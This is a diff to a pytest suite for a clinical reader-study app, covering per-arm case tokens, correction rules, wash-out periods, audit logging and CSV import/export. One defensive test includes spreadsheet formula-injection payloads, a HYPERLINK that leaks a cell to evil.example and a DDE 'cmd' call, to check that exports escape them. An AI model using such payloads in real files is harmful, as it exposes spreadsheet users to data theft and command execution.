@@ -12,23 +12,25 @@ import pytest
 from sqlalchemy import func, select
 
 from db import repo
-from db.models import AuditEvent, Base, Read, Study, StudyCase, utcnow
-from db.session import get_engine, init_db, session_scope
-from services import studies
+from db.models import ArmCase, AuditEvent, Read, Study, StudyCase, User, utcnow
+from db.session import init_db, session_scope
+from services import exports, studies
 from services.studies import ArmSpec, StudyError
+from tests.postgres import reset_database
 
 N_CASES = 12
 
 
 @pytest.fixture(params=["sqlite", "postgresql"])
-def db(request, workspace):
+def db(request, workspace, monkeypatch):
     """A database with a PI, three readers, a clinician and 16 labelled specimens with FL and WL images (12 test,
     4 train). Yields ``(url, ids)``."""
     if request.param == "sqlite":
         url = f"sqlite:///{workspace / 'study.db'}"
     else:
         url = request.getfixturevalue("postgres_url")
-        Base.metadata.drop_all(get_engine(url))
+        reset_database(url)
+    monkeypatch.setenv("IOAI_DATABASE_URL", url)
     init_db(url)
     ids: dict[str, object] = {}
     with session_scope(url) as s:
@@ -72,9 +74,13 @@ def _answer(url, study_id, reader_id, label=1, rating=4, **kw):
         token=case.token,
         label=label,
         rating=rating,
-        database=url,
         **kw,
     )
+
+
+def _case_of(session, case) -> int:
+    """The study case id behind a served case's token (the server's side of the token)."""
+    return session.scalar(select(ArmCase.case_id).where(ArmCase.token == case.token, ArmCase.arm_id == case.arm_id))
 
 
 def test_a_reader_reads_every_case_once_per_arm_in_a_stable_shuffled_order(db):
@@ -93,7 +99,9 @@ def test_a_reader_reads_every_case_once_per_arm_in_a_stable_shuffled_order(db):
     assert _state(url, study.id, reader).kind == "done"
     fl_tokens = [t for arm, t in seen if arm == study.arms[0].id]
     with session_scope(url) as s:
-        position = dict(s.execute(select(StudyCase.token, StudyCase.position)).all())
+        position = dict(
+            s.execute(select(ArmCase.token, StudyCase.position).join(StudyCase, ArmCase.case_id == StudyCase.id)).all()
+        )
         assert s.get(Study, study.id).frozen_at is not None
     assert [position[t] for t in fl_tokens] != sorted(position[t] for t in fl_tokens)  # shuffled
 
@@ -123,13 +131,18 @@ def test_what_a_reader_is_sent_carries_no_truth_codes_or_file_names(db):
     assert case.ai is None
     assert "S0" not in text and "P0" not in text and "images/" not in text and "True" not in text
     assert "tumor" not in repr(case).replace(case.token, "")
-    other = _create(url, ids, title="Same specimens")  # tokens are random, not derived from ids
+    _create(url, ids, title="Same specimens")  # tokens are random, not derived from ids
     with session_scope(url) as s:
-        tokens = s.execute(select(StudyCase.study_id, StudyCase.specimen_id, StudyCase.token)).all()
+        tokens = s.execute(
+            select(StudyCase.study_id, ArmCase.arm_id, StudyCase.specimen_id, ArmCase.token).join(
+                StudyCase, ArmCase.case_id == StudyCase.id
+            )
+        ).all()
     by_specimen = {}
-    for study_id, specimen, token in tokens:
-        by_specimen.setdefault(specimen, {})[study_id] = token
-    assert all(t[study.id] != t[other.id] for t in by_specimen.values())
+    for study_id, arm_id, specimen, token in tokens:
+        by_specimen.setdefault(specimen, {})[(study_id, arm_id)] = token
+    assert len(tokens) == 2 * 2 * N_CASES  # every case has its own token in every arm of every study
+    assert all(len(set(t.values())) == 4 for t in by_specimen.values())  # none shared between arms or studies
     assert len({t for *_, t in tokens}) == len(tokens) and all(len(t) == 16 for *_, t in tokens)
 
 
@@ -138,7 +151,7 @@ def test_a_double_click_two_tabs_or_a_replayed_form_give_one_read(db):
     study = _create(url, ids)
     reader = ids["readers"][0]
     case = _state(url, study.id, reader).case
-    kwargs = dict(study_id=study.id, reader_id=reader, arm_id=case.arm_id, token=case.token, rating=3, database=url)
+    kwargs = dict(study_id=study.id, reader_id=reader, arm_id=case.arm_id, token=case.token, rating=3)
     results = [None] * 6
 
     def submit(i):
@@ -161,24 +174,34 @@ def test_an_answer_for_a_case_not_served_is_refused(db):
     reader, other = ids["readers"][:2]
     served = _state(url, study.id, reader).case
     with session_scope(url) as s:
-        tokens = s.scalars(select(StudyCase.token).where(StudyCase.token != served.token)).all()
+        tokens = s.scalars(
+            select(ArmCase.token).where(ArmCase.token != served.token, ArmCase.arm_id == served.arm_id)
+        ).all()
+        second_arm_token = s.scalar(
+            select(ArmCase.token)
+            .join(StudyCase, ArmCase.case_id == StudyCase.id)
+            .where(ArmCase.arm_id == study.arms[1].id, StudyCase.id == _case_of(s, served))
+        )
     with pytest.raises(StudyError, match="not the case you were shown"):
         studies.record_read(
-            study_id=study.id, reader_id=reader, arm_id=served.arm_id, token=tokens[0], label=1, rating=5, database=url
+            study_id=study.id, reader_id=reader, arm_id=served.arm_id, token=tokens[0], label=1, rating=5
         )
     with pytest.raises(StudyError, match="not the case you were shown"):  # the second arm before the first is done
         studies.record_read(
             study_id=study.id,
             reader_id=reader,
             arm_id=study.arms[1].id,
-            token=served.token,
+            token=second_arm_token,
             label=1,
             rating=5,
-            database=url,
+        )
+    with pytest.raises(StudyError, match="No such case"):  # a token names its case in its own arm only
+        studies.record_read(
+            study_id=study.id, reader_id=reader, arm_id=study.arms[1].id, token=served.token, label=1, rating=5
         )
     with pytest.raises(StudyError, match="No such case"):
         studies.record_read(
-            study_id=study.id, reader_id=reader, arm_id=served.arm_id, token="forged", label=1, rating=5, database=url
+            study_id=study.id, reader_id=reader, arm_id=served.arm_id, token="forged", label=1, rating=5
         )
     with pytest.raises(StudyError, match="confidence from 1 to 5"):
         studies.record_read(
@@ -188,7 +211,6 @@ def test_an_answer_for_a_case_not_served_is_refused(db):
             token=served.token,
             label=1,
             rating=9,
-            database=url,
         )
     with session_scope(url) as s:
         uninvited = repo.create_user(s, "r9", "r9-password", "reader").id
@@ -202,7 +224,6 @@ def test_an_answer_for_a_case_not_served_is_refused(db):
             token=served.token,
             label=1,
             rating=5,
-            database=url,
         )
     with session_scope(url) as s:
         assert s.scalar(select(func.count(Read.id))) == 0
@@ -216,7 +237,7 @@ def test_corrections_are_new_versions_only_where_allowed(db):
     with pytest.raises(StudyError, match="does not allow"):
         studies.record_read(
             study_id=locked.id, reader_id=reader, arm_id=case.arm_id, token=case.token, label=0, rating=5,
-            revise=True, database=url,
+            revise=True,
         )  # fmt: skip
     with session_scope(url) as s:
         assert studies.revisable_cases(s, locked.id, reader) == []
@@ -228,14 +249,14 @@ def test_corrections_are_new_versions_only_where_allowed(db):
         again = studies.case_for_revision(s, open_.id, reader, arm_id, token)
         assert again.previous == (1, 2, "first look")
     result = studies.record_read(
-        study_id=open_.id, reader_id=reader, arm_id=arm_id, token=token, label=0, rating=5, revise=True, database=url
+        study_id=open_.id, reader_id=reader, arm_id=arm_id, token=token, label=0, rating=5, revise=True
     )
     assert (result.status, result.version) == ("revised", 2)
     with session_scope(url) as s:
         history = s.execute(select(Read.version, Read.label, Read.rating).order_by(Read.version)).all()
         assert [tuple(r) for r in history if r][-2:] == [(1, 1, 2), (2, 0, 5)]
-        latest = studies.export_reads(s, open_.id, user_id=ids["pi"])
-        full = studies.export_reads(s, open_.id, user_id=ids["pi"], history=True)
+        latest = studies.export_reads(s, open_.id)
+        full = studies.export_reads(s, open_.id, history=True)
     assert (len(latest), latest.loc[0, "label"], latest.loc[0, "version"]) == (1, 0, 2)
     assert list(full["version"]) == [1, 2]
     assert _state(url, open_.id, reader).case.k == 2  # a correction does not advance or repeat the order
@@ -316,10 +337,10 @@ def test_the_wash_out_between_arms_is_enforced(db):
     assert case.arm_number == 2
     with pytest.raises(StudyError, match="not the case"):
         studies.record_read(
-            study_id=study.id, reader_id=reader, arm_id=case.arm_id, token=case.token, label=1, rating=1, database=url
+            study_id=study.id, reader_id=reader, arm_id=case.arm_id, token=case.token, label=1, rating=1
         )
     later = studies.record_read(
-        study_id=study.id, reader_id=reader, arm_id=case.arm_id, token=case.token, label=1, rating=1, database=url,
+        study_id=study.id, reader_id=reader, arm_id=case.arm_id, token=case.token, label=1, rating=1,
         now=utcnow() + timedelta(days=15),
     )  # fmt: skip
     assert later.status == "recorded"
@@ -338,11 +359,10 @@ def test_a_closed_study_takes_no_reads_and_progress_is_per_reader_and_arm(db):
     assert len(progress) == 6 and progress.answered.sum() == 3
     assert _state(url, study.id, ids["readers"][0]).kind == "closed"
     with session_scope(url) as s:
-        case = s.scalars(select(StudyCase.token)).first()
+        case = s.scalars(select(ArmCase.token).where(ArmCase.arm_id == study.arms[0].id)).first()
     with pytest.raises(StudyError, match="closed"):
         studies.record_read(
             study_id=study.id, reader_id=ids["readers"][1], arm_id=study.arms[0].id, token=case, label=1, rating=2,
-            database=url,
         )  # fmt: skip
 
 
@@ -350,9 +370,9 @@ def test_every_change_read_and_export_is_audited(db):
     url, ids = db
     study = _create(url, ids)
     _answer(url, study.id, ids["readers"][0])
+    exports.reads_csv(study.id, user_id=ids["pi"])
+    exports.cases_csv(study.id, user_id=ids["pi"])
     with session_scope(url) as s:
-        studies.export_reads(s, study.id, user_id=ids["pi"])
-        studies.export_cases(s, study.id, user_id=ids["pi"])
         studies.set_status(s, study.id, "closed", user_id=ids["pi"])
     with session_scope(url) as s:
         log = s.execute(select(AuditEvent.action, AuditEvent.user_id).order_by(AuditEvent.id)).all()
@@ -372,17 +392,17 @@ def test_export_then_import_round_trips_and_bad_rows_are_named(db):
         for _ in range(4):
             _answer(url, source.id, reader, label=0, rating=2, comment="pale, no tumor cells")
     with session_scope(url) as s:
-        exported = studies.export_reads(s, source.id, user_id=ids["pi"])
-        truth = studies.export_cases(s, source.id, user_id=ids["pi"])
+        exported = studies.export_reads(s, source.id)
+        truth = studies.export_cases(s, source.id)
     assert list(exported.columns) == list(studies.EXPORT_COLUMNS) and len(exported) == 8
     assert set(truth["truth"]) == {0, 1} and len(truth) == N_CASES
     target = _create(url, ids, title="Collected on paper", reader_ids=[])
     csv = exported.to_csv(index=False)
     with session_scope(url) as s:
-        report = studies.import_reads(s, target.id, csv, user_id=ids["pi"])
+        report = studies.import_reads(s, target.id, csv, user_id=ids["pi"], allow_active_readers=True)
     assert (report.imported, report.errors) == (8, [])
     with session_scope(url) as s:
-        again = studies.export_reads(s, target.id, user_id=ids["pi"])
+        again = studies.export_reads(s, target.id)
         assert s.get(Study, target.id).frozen_at is not None
     columns = ["case_id", "reader_id", "arm", "label", "rating", "comment"]
     pd.testing.assert_frame_equal(again[columns], exported[columns])
@@ -447,3 +467,218 @@ def test_many_readers_at_once(db):
         counts = s.execute(select(Read.reader_id, func.count(func.distinct(Read.case_id))).group_by(Read.reader_id))
         assert dict(counts.all()) == {r: N_CASES for r in ids["readers"]}
         assert s.scalar(select(func.count(Read.id))) == 3 * 2 * N_CASES
+
+
+def _finish_arm(url, study_id, reader, n=N_CASES, **kw):
+    return [_answer(url, study_id, reader, **kw)[0] for _ in range(n)]
+
+
+def test_corrections_stay_inside_the_arm_the_reader_is_in(db):
+    """Once a later arm opens, answers of the earlier one are closed to corrections (issue 13, item 1)."""
+    url, ids = db
+    study = _create(url, ids, title="Two unaided arms", allow_revisions=True)
+    reader = ids["readers"][0]
+    first_arm = _finish_arm(url, study.id, reader)
+    with session_scope(url) as s:  # the WL arm is open now (no wash-out): nothing of FL can be reopened
+        assert studies.revisable_cases(s, study.id, reader) == []
+        with pytest.raises(StudyError, match="only be corrected in the arm you are reading"):
+            studies.case_for_revision(s, study.id, reader, first_arm[0].arm_id, first_arm[0].token)
+    with pytest.raises(StudyError, match="only be corrected in the arm you are reading"):
+        studies.record_read(
+            study_id=study.id, reader_id=reader, arm_id=first_arm[0].arm_id, token=first_arm[0].token, label=0,
+            rating=5, revise=True,
+        )  # fmt: skip
+    wl, _ = _answer(url, study.id, reader)
+    with session_scope(url) as s:
+        assert [(a, t) for a, _, t, _, _ in studies.revisable_cases(s, study.id, reader)] == [(wl.arm_id, wl.token)]
+    fixed = studies.record_read(
+        study_id=study.id, reader_id=reader, arm_id=wl.arm_id, token=wl.token, label=0, rating=5, revise=True
+    )
+    assert fixed.status == "revised"
+    with session_scope(url) as s:
+        assert s.scalar(select(func.count(Read.id)).where(Read.arm_id == first_arm[0].arm_id, Read.version > 1)) == 0
+
+
+def test_during_a_washout_the_finished_arm_stays_correctable_until_the_next_opens(db):
+    url, ids = db
+    arms = (ArmSpec("FL", "FL"), ArmSpec("WL", "WL", washout_days=14))
+    with session_scope(url) as s:
+        study = studies.create_study(
+            s, title="Wash-out", task="tumor", specimen_ids=ids["test"], arms=arms, reader_ids=ids["readers"],
+            allow_revisions=True,
+        )  # fmt: skip
+    reader = ids["readers"][0]
+    first_arm = _finish_arm(url, study.id, reader)
+    with session_scope(url) as s:
+        assert len(studies.revisable_cases(s, study.id, reader)) == N_CASES
+        assert studies.revisable_cases(s, study.id, reader, now=utcnow() + timedelta(days=15)) == []
+    revised = studies.record_read(
+        study_id=study.id, reader_id=reader, arm_id=first_arm[0].arm_id, token=first_arm[0].token, label=0,
+        rating=1, revise=True,
+    )  # fmt: skip
+    assert revised.status == "revised"
+    with pytest.raises(StudyError, match="only be corrected"):
+        studies.record_read(
+            study_id=study.id, reader_id=reader, arm_id=first_arm[0].arm_id, token=first_arm[0].token, label=1,
+            rating=1, revise=True, now=utcnow() + timedelta(days=15),
+        )  # fmt: skip
+
+
+def test_an_unaided_arm_is_never_corrected_after_the_ai_was_shown(db):
+    url, ids = db
+    with session_scope(url) as s:
+        model = repo.register_model(
+            s, name="fl-model", architecture="tiny_cnn", task="tumor", modality="FL", image_size=32,
+            checkpoint_path="models/none", checkpoint_sha256="0" * 64, threshold=0.5, threshold_policy="fixed",
+            metrics={}, config={},
+        )  # fmt: skip
+        study = studies.create_study(
+            s, title="AI first", task="tumor", specimen_ids=ids["test"], reader_ids=ids["readers"],
+            arms=(ArmSpec("FL+AI", "FL", model_id=model.id, show_probability=True), ArmSpec("WL", "WL")),
+            allow_revisions=True,
+        )  # fmt: skip
+    reader = ids["readers"][0]
+    aided, _ = _answer(url, study.id, reader)
+    with session_scope(url) as s:  # inside the aided arm, corrections are fine
+        assert [t for _, _, t, _, _ in studies.revisable_cases(s, study.id, reader)] == [aided.token]
+    _finish_arm(url, study.id, reader, n=N_CASES - 1)
+    unaided, _ = _answer(url, study.id, reader)
+    with session_scope(url) as s:
+        assert studies.revisable_cases(s, study.id, reader) == []
+    with pytest.raises(StudyError, match="never in an unaided arm after the AI"):
+        studies.record_read(
+            study_id=study.id, reader_id=reader, arm_id=unaided.arm_id, token=unaided.token, label=0, rating=5,
+            revise=True,
+        )  # fmt: skip
+
+
+def test_a_deactivated_reader_cannot_store_a_pending_answer(db):
+    url, ids = db
+    study = _create(url, ids)
+    reader = ids["readers"][0]
+    served = _state(url, study.id, reader).case  # the form is on their screen
+    with session_scope(url) as s:
+        s.get(User, reader).active = False
+    with pytest.raises(StudyError, match="deactivated"):
+        studies.record_read(
+            study_id=study.id, reader_id=reader, arm_id=served.arm_id, token=served.token, label=1, rating=3
+        )
+    assert _state(url, study.id, reader).kind == "refused"
+    with session_scope(url) as s:
+        assert s.scalar(select(func.count(Read.id))) == 0
+
+
+def test_formula_cells_leave_the_export_escaped_and_import_back_as_typed(db):
+    """Issue 13, item 4: a comment ``=HYPERLINK(...)`` and a reader id ``@evil`` are text in every spreadsheet
+    (a leading ``'``), and the study's own file imports back to the original strings."""
+    import csv
+    import io
+
+    from core.text import FORMULA_TRIGGERS
+    from services import exports
+
+    url, ids = db
+    with session_scope(url) as s:
+        evil = repo.create_user(s, "@evil", "evil-password", "reader").id
+    source = _create(url, ids, title="Typed by people", reader_ids=[evil])
+    comments = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)", "-2+3", "+cmd|' /C calc'!A0"]
+    for comment in comments:
+        _answer(url, source.id, evil, comment=comment)
+    data = exports.reads_csv(source.id, user_id=ids["pi"])
+    rows = list(csv.DictReader(io.StringIO(data.decode())))
+    assert {r["reader_id"] for r in rows} == {"'@evil"}
+    assert sorted(r["comment"] for r in rows) == sorted("'" + c for c in comments)
+    for row in rows:  # no cell of the file starts a formula
+        assert not any(cell[:1] in FORMULA_TRIGGERS for cell in row.values() if cell)
+    target = _create(url, ids, title="Imported", reader_ids=[])
+    with session_scope(url) as s:
+        report = studies.import_reads(s, target.id, data, user_id=ids["pi"], allow_active_readers=True)
+    assert (report.imported, report.errors) == (4, [])
+    with session_scope(url) as s:
+        again = studies.export_reads(s, target.id)
+    assert set(again["reader_id"]) == {"@evil"} and sorted(again["comment"]) == sorted(comments)
+
+
+def test_non_finite_ratings_and_durations_are_refused_by_line(db):
+    url, ids = db
+    study = _create(url, ids, reader_ids=[])
+    rows = "\n".join(
+        [
+            "case_id,reader_id,arm,label,rating,duration_s",
+            "S00,paper,FL,1,inf,",
+            "S01,paper,FL,1,nan,",
+            "S02,paper,FL,1,1e309,",
+            "S03,paper,FL,1,-inf,",
+            "S04,paper,FL,1,3,inf",
+            "S05,paper,FL,1,3,nan",
+            "S06,paper,FL,1,3,1e309",
+            "S07,paper,FL,1,3,12.5",
+        ]
+    )
+    with session_scope(url) as s:
+        report = studies.import_reads(s, study.id, rows, user_id=ids["pi"], create_readers=True)
+    assert report.imported == 0 and len(report.errors) == 7
+    for line, text in zip(range(2, 6), ("inf", "nan", "1e309", "-inf"), strict=True):
+        assert report.errors[line - 2] == f"line {line}: rating must be a whole number from 1 to 5, not {text!r}"
+    for line, text in zip(range(6, 9), ("inf", "nan", "1e309"), strict=True):
+        expected = f"line {line}: duration_s must be a non-negative number of seconds, not {text!r}"
+        assert report.errors[line - 2] == expected
+
+
+def test_answered_at_with_an_offset_is_stored_as_the_same_instant_in_utc(db):
+    from datetime import UTC, datetime
+
+    from sqlalchemy import text
+
+    url, ids = db
+    study = _create(url, ids, reader_ids=[])
+    rows = (
+        "case_id,reader_id,arm,label,rating,answered_at\n"
+        "S00,paper,FL,1,3,2026-01-02T10:00:00+02:00\n"
+        "S01,paper,FL,1,3,2026-01-02T03:00:00-05:00\n"
+        "S02,paper,FL,1,3,2026-01-02 08:00:00\n"  # no offset: UTC
+    )
+    with session_scope(url) as s:
+        today = rows.replace("2026-01-02 08:00:00", "today")
+        refused = studies.import_reads(s, study.id, today, user_id=ids["pi"], create_readers=True)
+        report = studies.import_reads(s, study.id, rows, user_id=ids["pi"], create_readers=True)
+    assert refused.errors[0].startswith("line 4: answered_at 'today' is not a date and time")
+    assert report.errors == []
+    eight = datetime(2026, 1, 2, 8, 0, tzinfo=UTC)
+    with session_scope(url) as s:
+        stored = s.scalars(select(Read.answered_at).where(Read.study_id == study.id).order_by(Read.id)).all()
+        raw = s.execute(text("SELECT answered_at FROM reads WHERE study_id = :s"), {"s": study.id}).scalars().all()
+        exported = studies.export_reads(s, study.id)
+    assert stored == [eight] * 3 and all(value.utcoffset().total_seconds() == 0 for value in stored)
+    if url.startswith("sqlite"):  # the file itself holds the UTC wall clock
+        assert all(str(value).startswith("2026-01-02 08:00:00") for value in raw)
+    else:
+        assert all(value == eight for value in raw)
+    assert {str(v) for v in exported["answered_at"]} == {"2026-01-02 08:00:00+00:00"}
+
+
+def test_reads_under_an_active_reader_need_permission_and_name_readers_and_cases_in_the_audit(db):
+    url, ids = db
+    study = _create(url, ids, reader_ids=[])
+    with session_scope(url) as s:
+        s.get(User, ids["readers"][2]).active = False  # r3 was deactivated: cannot sign in
+    rows = (
+        "case_id,reader_id,arm,label,rating\n"
+        "S00,r1,FL,1,3\nS01,r1,WL,0,2\nS01,r1,FL,0,2\n"  # r1 is a live account
+        "S02,r3,FL,1,4\nS03,paper,FL,1,5\n"
+    )
+    with session_scope(url) as s:
+        refused = studies.import_reads(s, study.id, rows, user_id=ids["pi"], create_readers=True)
+    assert refused.imported == 0 and [e[:7] for e in refused.errors] == ["line 2:", "line 3:", "line 4:"]
+    assert all("'r1' is an active reader account" in e for e in refused.errors)
+    with session_scope(url) as s:
+        assert s.scalar(select(func.count(Read.id)).where(Read.study_id == study.id)) == 0
+        report = studies.import_reads(
+            s, study.id, rows, user_id=ids["pi"], create_readers=True, allow_active_readers=True
+        )
+    assert (report.imported, report.errors, report.created_readers) == (5, [], ["paper"])
+    with session_scope(url) as s:
+        event = s.scalars(select(AuditEvent).where(AuditEvent.action == "reads_imported")).one()
+        assert (event.user_id, event.study_id) == (ids["pi"], study.id)
+        assert event.detail["active_readers"] == {"r1": {"reads": 3, "cases": ["S00", "S01"]}}
+        assert event.detail["created_readers"] == ["paper"]
